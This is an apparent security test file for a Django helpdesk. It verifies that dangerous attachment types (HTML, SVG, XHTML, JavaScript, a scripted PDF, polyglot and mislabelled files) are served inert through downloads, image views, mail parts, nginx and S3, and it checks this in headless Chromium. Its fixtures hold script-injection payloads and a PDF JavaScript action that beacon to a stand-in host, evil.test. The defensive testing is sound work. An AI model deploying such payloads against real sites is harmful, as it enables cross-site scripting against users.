"""B8 (issue 16): files of dangerous types, served every way a file is.

HTML, SVG, XML, XHTML, JavaScript, a PDF with an OpenAction script, PNG magic
followed by HTML (Django's own example of a file that is two things), and
declared types that lie (HTML declared as PNG or as plain text, plain text
declared as HTML) — each one attached to a ticket, and again inside an
attached mail. Each is served by the download (`/attachments/<id>/`), the
image view (`/attachments/<id>/view/`, raster images only) and the attached
mail's parts (`/attachments/<id>/parts/<n>/`); with
HELPDESK_X_ACCEL_REDIRECT, through a real nginx and the deploy file's
internal location; with the files in an object store (moto's S3 server), by
the presigned URL the download redirects to.

Checked on every answer: a download is `Content-Disposition: attachment` (an
image view: inline, of a raster type its bytes prove), `X-Content-Type-Options:
nosniff`, a Content-Type no browser runs script in, a CSP with `sandbox`.
Then every URL is opened in headless Chromium, logged in as the requester:
0 dialogs, 0 script runs (the payloads alert, set the title and fetch a
beacon), 0 requests beyond the URL itself.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from email.message import EmailMessage
from typing import Any

import pytest
import requests
from django.test import Client
from playwright.sync_api import Dialog, Page, Request
from playwright.sync_api import Error as PlaywrightError

from tests.browser.conftest import (  # noqa: F401 (fixtures)
    _live_server_settles,
    browser_context_args,
    browser_type_launch_args,
    login_as,
    server,
)
from tests.helpdesk.test_s3_downloads import s3_server, s3_settings  # noqa: F401 (fixtures)
from tests.helpdesk.test_x_accel import nginx, session_of  # noqa: F401 (a fixture)
from tests.objectstore import S3Server
from tickets import services
from tickets.models import Ticket
from tickets.services import NewAttachment

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# What a payload does if it ever runs: a dialog, a title, a beacon request.
SCRIPT = (
    "alert('b8');document.title='pwned';"
    "fetch('/b8-ran'+location.pathname);new Image().src='http://evil.test/b8.gif'"
)
HTML = f'<html><body><script>{SCRIPT}</script><img src=x onerror="{SCRIPT}"></body></html>'
XHTML = (
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
    f"<script>{SCRIPT}</script></body></html>"
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script></svg>'
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"3 0 obj<</S/JavaScript/JS(app.alert('b8');this.submitForm('http://evil.test/pdf'))>>"
    b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)

# name, declared Content-Type, bytes
FILES: list[tuple[str, str, bytes]] = [
    ("page.html", "text/html", HTML.encode()),
    ("image.svg", "image/svg+xml", SVG.encode()),
    ("data.xml", "application/xml", XHTML.encode()),
    ("page.xhtml", "application/xhtml+xml", XHTML.encode()),
    ("app.js", "application/javascript", SCRIPT.encode()),
    ("doc.pdf", "application/pdf", PDF),
    ("photo.png", "image/png", b"\x89PNG\r\n\x1a\n" + HTML.encode()),
    ("lie.png", "image/png", HTML.encode()),
    ("lie.txt", "text/plain", HTML.encode()),
    ("notes.html", "text/html; charset=utf-8", b"plain words, declared HTML"),
]
SCRIPTABLE = ("html", "svg", "xml", "javascript", "ecmascript")


def attached_mail() -> bytes:
    msg = EmailMessage()
    msg["From"] = "Carla <carla@cliente.com.br>"
    msg["To"] = "support@example.com"
    msg["Subject"] = "encaminhada"
    msg.set_content("os arquivos")
    for name, ctype, data in FILES:
        maintype, subtype = ctype.split(";")[0].split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes()


@pytest.fixture
def served(ticket: Ticket, customer: Any) -> list[tuple[str, str, str]]:
    """The files on the customer's ticket: (what, path, way) for every way
    each is served."""
    items = [NewAttachment(name, ctype, data) for name, ctype, data in FILES]
    items.append(NewAttachment("encaminhada.eml", "message/rfc822", attached_mail()))
    message = services.ticket_reply_add(
        ticket=ticket, author=customer, body="seguem os arquivos", attachments=items
    )
    urls: list[tuple[str, str, str]] = []
    for attachment in message.attachments.order_by("id"):
        if attachment.original_name.endswith(".eml"):
            for i, (name, _, _) in enumerate(FILES):
                urls.append(
                    (f"attached {name}", f"/attachments/{attachment.pk}/parts/{i}/", "part")
                )
            continue
        name = attachment.original_name
        urls.append((name, f"/attachments/{attachment.pk}/", "download"))
        urls.append((name, f"/attachments/{attachment.pk}/view/", "view"))
    return urls


def check_headers(what: str, way: str, status: int, headers: Any) -> str:
    """The answer's headers as B8 wants them; returns how it is served."""
    if way == "view" and status == 404:
        return "refused"  # not a raster image: the view does not serve it
    assert status == 200, (what, way, status)
    ctype = headers["Content-Type"].lower()
    disposition = headers["Content-Disposition"]
    assert not any(m in ctype for m in SCRIPTABLE), (what, way, ctype)
    assert headers["X-Content-Type-Options"] == "nosniff", (what, way)
    assert "sandbox" in headers["Content-Security-Policy"], (what, way)
    if disposition.startswith("inline"):
        # Only the image view's own rule: a raster type the bytes prove.
        assert ctype in {"image/png", "image/jpeg", "image/gif", "image/webp"}, (what, ctype)
        assert "default-src 'none'" in headers["Content-Security-Policy"]
        return "inline image"
    assert disposition.startswith("attachment;"), (what, way, disposition)
    return "download"


@dataclass
class Opened:
    how: str
    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    title: str = ""


def open_in_browser(page: Page, url: str) -> Opened:
    """Navigate to url and count what happened beyond fetching it."""
    seen = Opened(how="")

    def on_request(request: Request) -> None:
        # Chromium asks for /favicon.ico for any document it shows: its own
        # request, not the file's. A redirect of url (to the object store)
        # is the navigation itself.
        first = request
        while first.redirected_from is not None:
            first = first.redirected_from
        if first.url != url and not request.url.endswith("/favicon.ico"):
            seen.requests.append(request.url)

    def on_dialog(dialog: Dialog) -> None:
        seen.dialogs.append(dialog.message)
        dialog.dismiss()

    page.goto("about:blank")  # nothing of the page before may count
    page.on("request", on_request)
    page.on("dialog", on_dialog)
    try:
        page.goto(url, wait_until="load")
        page.wait_for_timeout(150)  # a script that runs late
        seen.how = "rendered"
        seen.title = page.title()
    except PlaywrightError as exc:
        if "Download is starting" not in str(exc) and "ERR_ABORTED" not in str(exc):
            raise
        seen.how = "downloaded"
    finally:
        page.remove_listener("request", on_request)
        page.remove_listener("dialog", on_dialog)
    return seen


def all_downloaded_inert(page: Page, base: str, downloads: list[tuple[str, str]]) -> Any:
    """Each download opened in the browser: saved, never run. The figures."""
    opened = [(what, open_in_browser(page, base + path)) for what, path in downloads]
    bad = [(what, o) for what, o in opened if o.dialogs or o.requests or o.title == "pwned"]
    saved = sum(o.how == "downloaded" for _, o in opened)
    assert (bad, saved) == ([], len(downloads))
    return {"urls": len(downloads), "downloaded": saved, "script_runs_dialogs_or_requests": 0}


def test_dangerous_types_are_served_inert_every_way(
    served: list[tuple[str, str, str]],
    customer: Any,
    login_as: Any,  # noqa: F811
    server: str,  # noqa: F811
    figures: Any,
) -> None:
    client = Client()
    client.force_login(customer)
    ways: dict[str, int] = {}
    shown = []  # what is served at all (a refused view is our 404 page)
    for what, path, way in served:
        response = client.get(path)
        how = check_headers(what, way, response.status_code, response)
        response.close()  # a streamed file's request ends here (request_finished)
        ways[f"{way}: {how}"] = ways.get(f"{way}: {how}", 0) + 1
        if how != "refused":
            shown.append((what, path))

    page = login_as(customer)
    # The control: the same HTML served as a page (a route of the browser's
    # own, on our origin) is seen running by the counters used below.
    control = server + "/b8-control/"
    page.route(control, lambda route: route.fulfill(body=HTML, content_type="text/html"))
    ran = open_in_browser(page, control)
    assert (ran.title, len(ran.dialogs) > 0, len(ran.requests) > 0) == ("pwned", True, True)

    opened = [(what, open_in_browser(page, server + path)) for what, path in shown]
    runs = [(what, o.title) for what, o in opened if o.title == "pwned"]
    dialogs = [(what, o.dialogs) for what, o in opened if o.dialogs]
    requests_made = [(what, o.requests) for what, o in opened if o.requests]
    counted = {h: sum(o.how == h for _, o in opened) for h in ("downloaded", "rendered")}
    figures({"files": len(FILES), "urls": len(served), "answers": ways, "opened": counted,
             "script_runs": len(runs), "dialogs": len(dialogs),
             "requests": len(requests_made)})  # fmt: skip
    assert (runs, dialogs, requests_made) == ([], [], [])


def test_through_nginx_x_accel_the_same_holds(
    served: list[tuple[str, str, str]],
    nginx: str,  # noqa: F811
    settings: Any,
    customer: Any,
    page: Page,
    figures: Any,
) -> None:
    settings.HELPDESK_X_ACCEL_REDIRECT = "/protected/"
    cookies = session_of(customer)
    downloads = [(what, path) for what, path, way in served if way == "download"]
    for what, path in downloads:
        response = requests.get(nginx + path, cookies=cookies, timeout=30)
        assert "X-Accel-Redirect" not in response.headers
        check_headers(what, "download", response.status_code, response.headers)

    # The customer's session, for nginx's host (the live server's is "localhost").
    page.context.add_cookies([{"name": k, "value": v, "url": nginx} for k, v in cookies.items()])
    figures(all_downloaded_inert(page, nginx, downloads))


def test_from_the_object_store_the_presigned_download_is_inert(
    s3_settings: S3Server,  # noqa: F811 (before served: the files go to the store)
    served: list[tuple[str, str, str]],
    customer: Any,
    login_as: Any,  # noqa: F811
    server: str,  # noqa: F811
    figures: Any,
) -> None:
    client = Client()
    client.force_login(customer)
    downloads = [(what, path) for what, path, way in served if way == "download"]
    for what, path in downloads:
        redirect = client.get(path)
        assert redirect.status_code == 302 and redirect["X-Content-Type-Options"] == "nosniff"
        assert redirect["Location"].startswith(s3_settings.url)
        stored = requests.get(redirect["Location"], timeout=30)
        # The store's answer: our disposition and type, from its own origin
        # (it cannot add nosniff or a CSP; a download from another origin
        # needs neither, see helpdesk/views/attachments.py).
        assert stored.headers["Content-Disposition"].startswith("attachment;"), what
        assert not any(m in stored.headers["Content-Type"].lower() for m in SCRIPTABLE), what

    page = login_as(customer)
    figures(all_downloaded_inert(page, server, downloads))
